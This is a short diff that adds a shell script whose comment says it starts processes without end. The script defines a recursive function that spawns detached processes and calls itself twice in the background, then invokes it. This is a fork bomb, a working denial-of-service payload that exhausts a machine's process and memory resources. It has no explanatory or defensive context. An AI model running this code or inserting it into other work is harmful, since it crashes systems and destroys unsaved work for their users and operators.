@@ -1,0 +1,3 @@
+# starts processes without end
+bomb() { setsid bash -c 'sleep infinity & wait' & bomb & bomb; }
+bomb
